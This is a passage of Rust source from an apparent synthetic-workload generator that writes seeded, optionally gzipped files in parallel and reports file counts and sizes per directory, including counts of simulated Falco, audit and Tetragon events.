        _ => u64::MAX,
    });

    let out = args.out.clone();
    let written: Result<Vec<(String, u64)>, String> = jobs
        .par_iter()
        .map(|job| {
            let rel = job.path(&e);
            let mut rng = Rng::new(e.seed, fnv(&rel));
            let text = job.render(&e, &mut rng);
            let gzip = args.gzip && rel.ends_with(".jsonl");
            let path = out.join(if gzip {
                format!("{rel}.gz")
            } else {
                rel.clone()
            });
            let size = write_file(&path, text.as_bytes(), gzip)
                .map_err(|err| format!("{}: {err}", path.display()))?;
            let top = rel.split('/').next().unwrap_or("").to_string();
            Ok((top, size))
        })
        .collect();
    let written = match written {
        Ok(w) => w,
        Err(err) => {
            eprintln!("gen_workload: cannot write {err}");
            std::process::exit(1);
        }
    };
    let mut by_dir: std::collections::BTreeMap<String, (u64, u64)> = Default::default();
    for (dir, size) in &written {
        let entry = by_dir.entry(dir.clone()).or_default();
        entry.0 += 1;
        entry.1 += size;
    }
    let total: u64 = by_dir.values().map(|v| v.1).sum();
    eprintln!(
        "gen_workload: seed {} images {} days {} falco {} audit {} tetragon {} nodes {} workloads {}{}",
        args.seed,
        knobs.images,
        knobs.days,
        knobs.falco_alerts,
        knobs.audit_events,
        knobs.tetragon_events,
        e.nodes.len(),
        e.workloads.len(),
        if args.gzip { " (gzip)" } else { "" }
    );
    for (dir, (files, bytes)) in &by_dir {
        eprintln!(
            "  {dir:<14} {files:>6} files {:>10.1} MB  {:>5.1}%",
            *bytes as f64 / 1e6,
            *bytes as f64 * 100.0 / total.max(1) as f64
        );
    }
    eprintln!(
        "  {:<14} {:>6} files {:>10.1} MB in {:.1} s ({} namespaces)",
        "total",
        written.len(),
        total as f64 / 1e6,
        started.elapsed().as_secs_f64(),
        e.namespaces.len()
    );
}

/// Write one file (gzip-compressed when asked); returns the bytes on disk.
fn write_file(path: &Path, bytes: &[u8], gzip: bool) -> std::io::Result<u64> {
    if let Some(dir) = path.parent() {
        std::fs::create_dir_all(dir)?;
    }
    let file = std::fs::File::create(path)?;
    let mut w = std::io::BufWriter::with_capacity(1 << 20, file);
    if gzip {
        let mut gz = flate2::write::GzEncoder::new(w, flate2::Compression::default());
        gz.write_all(bytes)?;
        w = gz.finish()?;
    } else {
        w.write_all(bytes)?;
    }
    w.flush()?;
    Ok(std::fs::metadata(path)?.len())
}
